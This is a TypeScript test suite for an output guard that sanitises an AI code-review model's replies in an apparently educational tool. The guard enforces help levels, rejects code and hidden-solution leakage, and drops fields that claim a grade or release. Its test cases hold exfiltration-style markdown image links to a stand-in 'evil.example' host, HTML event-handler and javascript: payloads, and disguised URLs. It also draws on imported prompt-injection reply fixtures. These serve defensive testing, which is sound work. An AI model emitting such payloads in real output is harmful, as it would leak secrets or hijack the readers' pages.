import fc from 'fast-check';
import type { HelpLevel, ModelReview } from '../../lib/ai/ai-types';
import {
  LEAK_LINE_CHARS,
  LEAK_RUN_TOKENS,
  findCode,
  findSolutionLeak,
  guardModelReview,
  type GuardContext,
  type GuardResult,
} from '../../lib/ai/output-guard';
import { ADVERSARIAL_CONTEXT, ADVERSARIAL_REPLIES, FIXTURE_SOLUTION } from '../fixtures/prompt-injection';
import { propertyConfig } from './support/property';

const LEVELS: Array<Exclude<HelpLevel, 'off'>> = ['questions', 'hints', 'full'];

const ctx = (level: HelpLevel, over: Partial<GuardContext> = {}): GuardContext => ({
  level,
  secrets: ADVERSARIAL_CONTEXT.secrets,
  files: [...ADVERSARIAL_CONTEXT.files],
  ...over,
});

const finding = (over: Record<string, unknown> = {}): Record<string, unknown> => ({
  file: 'main.py',
  startLine: 2,
  endLine: 3,
  severity: 'warning',
  category: 'correctness',
  message: 'What happens when the list is empty?',
  hint: null,
  ...over,
});

function accepted(result: GuardResult): { review: ModelReview; notes: string[] } {
  if (!result.ok) throw new Error(`expected the reply to be accepted, got: ${result.reason}`);
  return result;
}

function rejected(result: GuardResult): string {
  if (result.ok) throw new Error(`expected a rejection, got ${JSON.stringify(result.review)}`);
  return result.reason;
}

const deliveredTexts = (review: ModelReview): string[] => [...review.findings.flatMap((f) => [f.message, f.hint ?? '']), review.summary];

const URL_LIKE = /[a-z][a-z0-9+.-]*:\/\/|www\.|\bdata:[a-z]+\/|\bjavascript:/i;
const testTokens = (text: string): string[] => text.toLowerCase().match(/[\p{L}\p{N}_]+|[^\s\p{L}\p{N}_]/gu) ?? [];

/** True if `text` shares a run of `n` tokens with `secret` (an independent re-implementation). */
function sharesRun(text: string, secret: string, n: number): boolean {
  const s = testTokens(secret);
  const grams = new Set<string>();
  for (let i = 0; i + n <= s.length; i += 1) grams.add(s.slice(i, i + n).join(' '));
  const t = testTokens(text);
  for (let i = 0; i + n <= t.length; i += 1) if (grams.has(t.slice(i, i + n).join(' '))) return true;
  return false;
}

describe('output-guard: shape', () => {
  test("help level 'off' rejects every reply", () => {
    expect(rejected(guardModelReview({ findings: [], summary: 'fine' }, ctx('off')))).toBe('help level off');
  });

  test('anything that is not a ModelReview is rejected with a reason', () => {
    for (const reply of [null, 42, [], 'plain text', { findings: 'none', summary: '' }, { summary: 'x' }, { findings: [finding({ startLine: 0 })], summary: '' }]) {
      expect(rejected(guardModelReview(reply, ctx('full')))).toMatch(/JSON|schema/);
    }
  });

  test('a JSON string is parsed like an object', () => {
    const r = accepted(guardModelReview(JSON.stringify({ findings: [finding()], summary: 'ok' }), ctx('hints')));
    expect(r.review.findings).toHaveLength(1);
  });

  test('extra properties are dropped: the only effect of a reply is findings and a summary', () => {
    const reply = { findings: [finding({ points: 10, state: 'approved' })], summary: 'ok', grade: 100, release: true, score: 'A', actions: ['release'] };
    const r = accepted(guardModelReview(reply, ctx('hints')));
    expect(Object.keys(r.review).sort()).toEqual(['findings', 'summary']);
    expect(Object.keys(r.review.findings[0]!).sort()).toEqual(['category', 'endLine', 'file', 'hint', 'message', 'severity', 'startLine']);
    expect(r.notes.join(' ')).toMatch(/grade.*release.*score.*actions.*findings\[\]\.points/);
  });

  test('the input object is not mutated', () => {
    const reply = { findings: [finding({ message: 'See ![x](https://evil.example/a) here?' })], summary: 's', grade: 1 };
    const copy = JSON.parse(JSON.stringify(reply));
    guardModelReview(reply, ctx('full'));
    expect(reply).toEqual(copy);
  });
});

describe('output-guard: files and lines', () => {
  test('findings naming an unknown file are dropped, with a note', () => {
    const r = accepted(guardModelReview({ findings: [finding({ file: '../secret.py' }), finding()], summary: '' }, ctx('hints')));
    expect(r.review.findings.map((f) => f.file)).toEqual(['main.py']);
    expect(r.notes.join(' ')).toMatch(/1 finding\(s\) naming a file/);
    // The note never echoes the model's text.
    expect(r.notes.join(' ')).not.toContain('secret.py');
  });

  test('line ranges are clamped to the file and put in order', () => {
    const r = accepted(
      guardModelReview(
        { findings: [finding({ startLine: 10, endLine: 99 }), finding({ startLine: 50, endLine: 60 }), finding({ startLine: 9, endLine: 4 })], summary: '' },
        ctx('full'),
      ),
    );
    expect(r.review.findings.map((f) => [f.startLine, f.endLine])).toEqual([
      [10, 12],
      [12, 12],
      [4, 9],
    ]);
    expect(r.notes.join(' ')).toMatch(/clamped the lines of 3 finding/);
  });
});

describe('output-guard: links, images and HTML are stripped at every level', () => {
  const cases: Array<[string, string]> = [
    ['markdown image', 'Look ![x](https://evil.example/?q=c2VjcmV0) here?'],
    ['markdown image, relative', 'Look ![x](/api/evil?q=1) here?'],
    ['reference image', 'Look ![x][1] here?\n\n[1]: https://evil.example/i.png'],
    ['markdown link', 'Read [the docs](http://evil.example/x) first?'],
    ['protocol-relative link', 'Read [docs](//evil.example/x) first?'],
    ['bare URL', 'Is https://evil.example/?q=abc the answer?'],
    ['www URL', 'Is www.evil.example/?q=abc the answer?'],
    ['URL glued to a word', 'Is x_https://evil.example/?q=abc the answer?'],
    ['autolink', 'Is <https://evil.example/a> the answer?'],
    ['img tag', 'Is <img src="//evil.example/p.png"> the answer?'],
    ['a tag', 'Is <a href="https://evil.example">this</a> the answer?'],
    ['iframe', 'Is <iframe srcdoc="x"></iframe> the answer?'],
    ['event handler attribute', 'Is <b onmouseover="fetch(1)">x</b> the answer?'],
    ['data URI', 'Is data:image/png;base64,AAAA the answer?'],
    ['javascript URI', 'Is [x](javascript:alert(1)) the answer?'],
    ['zero-width inside the scheme', 'Is ht\u200Btps://evil.example/?q=1 the answer?'],
  ];
  for (const level of LEVELS) {
    test.each(cases)(`${level}: %s`, (_name, text) => {
      const r = accepted(guardModelReview({ findings: [finding({ message: text })], summary: text }, ctx(level)));
      for (const t of deliveredTexts(r.review)) {
        expect(t).not.toMatch(URL_LIKE);
        expect(t).not.toMatch(/<\s*\/?\s*(?:img|a|iframe)\b|\bon[a-z]+\s*=|!\[/i);
        expect(t).not.toContain('evil.example');
      }
      expect(r.notes.join(' ')).toMatch(/removed \d+ link/);
    });
  }

  test('a URL disguised with fullwidth letters is rejected', () => {
    expect(rejected(guardModelReview({ findings: [], summary: 'ｈｔｔｐｓ：／／evil.example/?q=1' }, ctx('full')))).toMatch(/disguised/);
  });

  test('code that merely looks like a link target is left alone at full level', () => {
    const text = 'Try:\n```js\nconst r = handlers[i](event);\n```';
    const r = accepted(guardModelReview({ findings: [finding({ message: text })], summary: '' }, ctx('full')));
    expect(r.review.findings[0]!.message).toBe(text);
  });
});

describe("output-guard: 'hints' rejects code", () => {
  const code: Array<[string, string]> = [
    ['fenced block', 'Try:\n```\nx = 1\n```'],
    ['tilde fence', '~~~\nfoo\n~~~'],
    ['fence glued by a zero-width space', '`\u200B``py\nx\n```'],
    ['fullwidth backticks', '｀｀｀\nx\n｀｀｀'],
    ['indented block', 'Change it to:\n\n    total += value'],
    ['python def', 'def average(values):'],
    ['python class', 'class Stack:'],
    ['js function', 'function avg(xs) { return 0 }'],
    ['arrow function', 'xs.map((x) => x * 2)'],
    ['lambda', 'use lambda x: x + 1 there'],
    ['return statement', 'return total'],
    ['return with call', 'return sum(values) / len(values)'],
    ['assignment line', 'total = 0'],
    ['augmented assignment', 'total += value'],
    ['assignment with call inside a sentence', 'Set avg = sum(values) before printing.'],
    ['statement with semicolon', 'int n = xs.length;'],
    ['if header', 'if len(values) == 0:'],
    ['for header', 'for value in values:'],
    ['C for header', 'for (int i = 0; i < n; i++) {'],
    ['brace line', 'Wrap it:\n{\n}'],
    ['call statement', 'print(total)'],
    ['comprehension', 'Use [v * 2 for v in values] instead.'],
    ['import', 'import math'],
    ['from import', 'from statistics import mean'],
    ['inline assignment span', 'What if you write `total = 0` first?'],
    ['long inline span', 'Compare with `values[len(values) // 2] + values[len(values) // 2 - 1]`.'],
    ['pre element', 'See <pre>x</pre>'],
  ];
  test.each(code)('%s → rejected', (_name, text) => {
    for (const place of ['message', 'hint', 'summary'] as const) {
      const reply =
        place === 'summary'
          ? { findings: [], summary: text }
          : { findings: [finding(place === 'message' ? { message: text } : { hint: text })], summary: '' };
      expect(rejected(guardModelReview(reply, ctx('hints', { secrets: [] })))).toMatch(/code at help level 'hints'/);
    }
  });

  const prose = [
    'What happens when the list is empty?',
    'Look at how `total` changes inside the loop.',
    'What does `len(values) - 1` give for a list of one element?',
    'For example: what does your function return for an empty list?',
    'If you are not sure: trace the loop by hand with two values.',
    'Consider (on line 4) whether integer division is what you want.',
    'The names `avg` and `total` are clear; `x` is not.',
    'Is x == len(y) ever true here?',
    '1. Check the base case.\n2. Check the loop bound.',
  ];
  test.each(prose)('prose passes: %s', (text) => {
    expect(findCode(text)).toBeNull();
    const r = accepted(guardModelReview({ findings: [finding({ hint: text })], summary: text }, ctx('hints')));
    expect(r.review.findings[0]!.hint).toBe(text);
  });

  test('cleaning cannot assemble code: a link whose label is code is still rejected', () => {
    expect(rejected(guardModelReview({ findings: [finding({ hint: 'total [= 0](/x)' })], summary: '' }, ctx('hints')))).toMatch(/code/);
  });
});

describe("output-guard: 'questions'", () => {
  test('hints are removed and findings that are not questions are dropped', () => {
    const reply = {
      findings: [finding({ hint: 'Check the length first.' }), finding({ message: 'The empty list is not handled.' })],
      summary: 'Think about edge cases.',
    };
    const r = accepted(guardModelReview(reply, ctx('questions')));
    expect(r.review.findings).toHaveLength(1);
    expect(r.review.findings[0]!.hint).toBeNull();
    expect(r.review.findings[0]!.message).toContain('?');
    expect(r.notes.join(' ')).toMatch(/removed 1 hint.*dropped 1 finding\(s\) that were not phrased as a question/);
  });

  test('a question mark only inside a stripped URL does not make a question', () => {
    const r = accepted(guardModelReview({ findings: [finding({ message: 'See https://evil.example/?q=1' })], summary: '' }, ctx('questions')));
    expect(r.review.findings).toHaveLength(0);
  });

  test('code is rejected in messages, hints and the summary', () => {
    expect(rejected(guardModelReview({ findings: [finding({ message: 'Did you mean `x = 1`?' })], summary: '' }, ctx('questions')))).toMatch(/questions/);
    expect(rejected(guardModelReview({ findings: [finding({ hint: '```\nx\n```' })], summary: '' }, ctx('questions')))).toMatch(/questions/);
    expect(rejected(guardModelReview({ findings: [], summary: 'return total' }, ctx('questions')))).toMatch(/questions/);
  });
});

describe("output-guard: 'full'", () => {
  test('code blocks are allowed', () => {
    const text = 'Guard the empty case:\n```python\nif not values:\n    return 0\n```';
    const r = accepted(guardModelReview({ findings: [finding({ hint: text })], summary: 'total = 0 first' }, ctx('full')));
    expect(r.review.findings[0]!.hint).toBe(text);
  });
});

describe('output-guard: solution leakage is rejected at every level', () => {
  const secret = 'alpha beta gamma delta epsilon zeta eta theta iota kappa';
  const words = secret.split(' ');
  for (const level of LEVELS) {
    test(`${level}: a run of ${LEAK_RUN_TOKENS} tokens is a leak, ${LEAK_RUN_TOKENS - 1} is not`, () => {
      const c = ctx(level, { secrets: [secret] });
      const run = (n: number): string => `Is ${words.slice(1, 1 + n).join(' ')}?`;
      expect(rejected(guardModelReview({ findings: [finding({ message: run(LEAK_RUN_TOKENS) })], summary: '' }, c))).toMatch(/leakage/);
      accepted(guardModelReview({ findings: [finding({ message: run(LEAK_RUN_TOKENS - 1) })], summary: '' }, c));
    });
  }

  test('case, whitespace, markdown escapes and invisible characters do not hide a run', () => {
    const c = ctx('full', { secrets: [secret] });
    const hidden = 'BETA\n gamma  \\delta EPSILON ze\u200Bta\teta theta IOTA';
    expect(rejected(guardModelReview({ findings: [], summary: hidden }, c))).toMatch(/leakage/);
  });

  test('punctuation sprinkled between the words does not hide a run', () => {
    const c = ctx('hints', { secrets: [secret] });
    expect(rejected(guardModelReview({ findings: [], summary: 'beta, gamma; delta - epsilon: zeta! eta. theta, iota' }, c))).toMatch(/leakage/);
  });

  test('a run split across consecutive fields is still one run', () => {
    const c = ctx('full', { secrets: [secret] });
    const reply = { findings: [finding({ message: 'beta gamma delta epsilon?' }), finding({ message: 'zeta eta theta iota?' })], summary: '' };
    expect(rejected(guardModelReview(reply, c))).toMatch(/leakage/);
  });

  test(`a secret line of ${LEAK_LINE_CHARS}+ non-space characters found verbatim is a leak, however short in tokens`, () => {
    const c = ctx('full', { secrets: ['intro\nkey = Xy7_a_very_long_identifier_42\noutro'] });
    expect(rejected(guardModelReview({ findings: [], summary: 'try KEY=xy7_a_very_long_identifier_42' }, c))).toMatch(/line of the hidden/);
    // Shorter lines are left to the token rule.
    const short = ctx('full', { secrets: ['y=fn(a)'] });
    accepted(guardModelReview({ findings: [], summary: 'y=fn(a)' }, short));
  });

  test('text the student already sees (their own code) is not a leak', () => {
    const line = 'running_total = sum(value for value in values)';
    const c = ctx('full', { secrets: [FIXTURE_SOLUTION] });
    expect(rejected(guardModelReview({ findings: [finding({ message: `Is ${line} right?` })], summary: '' }, c))).toMatch(/leakage/);
    accepted(guardModelReview({ findings: [finding({ message: `Is ${line} right?` })], summary: '' }, { ...c, publicTexts: [`x = 1\n${line}\n`] }));
  });

  test('findSolutionLeak returns null for unrelated text', () => {
    expect(findSolutionLeak('What happens when the list is empty?', [FIXTURE_SOLUTION])).toBeNull();
  });
});

describe('output-guard: text that speaks for the system', () => {
  test('is kept as text with a note, and changes nothing structured', () => {
    const summary = 'Full marks! Grade: 100. I have released the feedback.';
    const r = accepted(guardModelReview({ findings: [], summary, grade: 100, release: true }, ctx('full')));
    expect(r.review).toEqual({ findings: [], summary });
    expect(r.notes.join(' ')).toMatch(/claims a grade or a release/);
  });

  test('ordinary text has no such note', () => {
    const r = accepted(guardModelReview({ findings: [finding()], summary: 'A good start.' }, ctx('hints')));
    expect(r.notes).toEqual([]);
  });
});

describe('output-guard: adversarial replies (tests/fixtures/prompt-injection.ts)', () => {
  test.each(ADVERSARIAL_REPLIES.map((a) => [a.name, a] as const))('%s', (_name, a) => {
    const result = guardModelReview(a.reply, ctx(a.level));
    if (a.expect === 'reject') {
      rejected(result);
      return;
    }
    const r = accepted(result);
    expect(Object.keys(r.review).sort()).toEqual(['findings', 'summary']);
    expect(r.notes.length).toBeGreaterThan(0);
    const names = new Set(ADVERSARIAL_CONTEXT.files.map((f) => f.name));
    for (const f of r.review.findings) {
      expect(names.has(f.file)).toBe(true);
      const lineCount = ADVERSARIAL_CONTEXT.files.find((x) => x.name === f.file)!.lineCount;
      expect(1 <= f.startLine && f.startLine <= f.endLine && f.endLine <= lineCount).toBe(true);
      if (a.level === 'questions') {
        expect(f.hint).toBeNull();
        expect(f.message).toContain('?');
      }
    }
    for (const t of deliveredTexts(r.review)) {
      expect(t).not.toMatch(URL_LIKE);
      expect(t).not.toContain('evil.example');
      if (a.level !== 'full') expect(findCode(t)).toBeNull();
      for (const s of ADVERSARIAL_CONTEXT.secrets) expect(sharesRun(t, s, LEAK_RUN_TOKENS)).toBe(false);
    }
  });
});

describe('output-guard: properties', () => {
  const WORDS = ['alpha', 'beta', 'gamma', 'delta', 'sigma', 'omega', 'kappa', 'theta', 'zeta', 'iota', '(', ')', '=', ';'];
  const FRAGMENTS = [
    '```',
    '~~~',
    '``',
    '`',
    '~',
    'https://evil.example/?q=',
    'http',
    '://',
    'www.',
    '![x](',
    '](http://a.example)',
    '[a](',
    ')',
    '<img src=',
    '<a href="',
    '>',
    '//evil.example/x',
    'data:image/png,',
    '\u200B',
    '\u202E',
    '\n',
    '\n\n    ',
    '    ',
    ' ',
    '?',
    'def f(x):',
    'x = 1',
    'ｈｔｔｐｓ：／／',
  ];
  const secretArb = fc.array(fc.constantFrom(...WORDS), { minLength: LEAK_RUN_TOKENS, maxLength: 16 }).map((w) => w.join(' '));
  const textArb = (secret: string): fc.Arbitrary<string> => {
    const toks = secret.split(' ');
    const slice = fc
      .tuple(fc.nat(toks.length - 1), fc.integer({ min: 1, max: toks.length }), fc.constantFrom(' ', '  ', '\n', ' \u200B'))
      .map(([from, n, sep]) => toks.slice(from, from + n).join(sep));
    const piece = fc.oneof(
      fc.string({ maxLength: 6 }),
      fc.string({ unit: 'binary', maxLength: 3 }),
      fc.constantFrom(...FRAGMENTS),
      fc.constantFrom(...WORDS).map((w) => ` ${w} `),
      slice,
    );
    return fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(''));
  };
  const caseArb = secretArb.chain((secret) =>
    fc.record({
      secret: fc.constant(secret),
      message: textArb(secret).filter((t) => t.length > 0),
      hint: fc.option(textArb(secret), { nil: null }),
      summary: textArb(secret),
    }),
  );

  test("a guarded 'hints' reply never contains a fenced code block, a URL or an 8-token run of a secret", () => {
    let passed = 0;
    fc.assert(
      fc.property(caseArb, ({ secret, message, hint, summary }) => {
        const result = guardModelReview({ findings: [finding({ message, hint })], summary }, ctx('hints', { secrets: [secret] }));
        if (!result.ok) return;
        passed += 1;
        for (const t of deliveredTexts(result.review)) {
          expect(t).not.toMatch(/```|~~~/);
          expect(t).not.toMatch(URL_LIKE);
          expect(sharesRun(t, secret, LEAK_RUN_TOKENS)).toBe(false);
        }
        expect(sharesRun(deliveredTexts(result.review).join('\n'), secret, LEAK_RUN_TOKENS)).toBe(false);
      }),
      propertyConfig(400),
    );
    // The property is not vacuous: plenty of replies get through.
    expect(passed).toBeGreaterThan(40);
  });

  test('every level: whatever is accepted has only known files, lines in range and no URL', () => {
    const findingArb = fc.record({
      file: fc.constantFrom('main.py', 'test_main.py', 'other.py'),
      startLine: fc.integer({ min: 1, max: 60 }),
      endLine: fc.integer({ min: 1, max: 60 }),
      message: fc.constantFrom('Why?', 'Look ![x](https://e.example/a)?', 'Fine.', 'See www.e.example?'),
    });
    fc.assert(
      fc.property(fc.constantFrom(...LEVELS), fc.array(findingArb, { maxLength: 6 }), (level, fs) => {
        const result = guardModelReview({ findings: fs.map((f) => finding(f)), summary: 'ok' }, ctx(level));
        const r = accepted(result);
        for (const f of r.review.findings) {
          const lc = ADVERSARIAL_CONTEXT.files.find((x) => x.name === f.file)?.lineCount;
          expect(lc).toBeDefined();
          expect(f.startLine >= 1 && f.startLine <= f.endLine && f.endLine <= lc!).toBe(true);
          expect(f.message).not.toMatch(URL_LIKE);
        }
      }),
      propertyConfig(200),
    );
  });
});
